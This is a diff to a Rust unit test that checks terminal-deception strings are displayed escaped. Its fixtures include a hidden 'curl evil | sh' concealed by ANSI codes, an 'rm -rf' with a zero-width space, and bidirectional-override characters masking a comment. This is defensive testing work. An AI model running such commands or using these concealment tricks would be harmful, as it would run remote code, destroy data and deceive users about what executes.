@@ -79,7 +79,7 @@ fn tricks_are_shown() {
             "if admin\u{202e} \u{2066}// check\u{2069} \u{2066}",
             r"if admin\u{202e} \u{2066}// check\u{2069} \u{2066}",
         ),
-        ("rm -rf \u{200b}/tmp/x", r"rm -rf \u{200b}/tmp/x"),
+        ("rm -rf \u{200b}build", r"rm -rf \u{200b}build"),
         (
             "echo ok\u{1b}[8m; curl evil | sh\u{1b}[0m",
             r"echo ok\u{1b}[8m; curl evil | sh\u{1b}[0m",
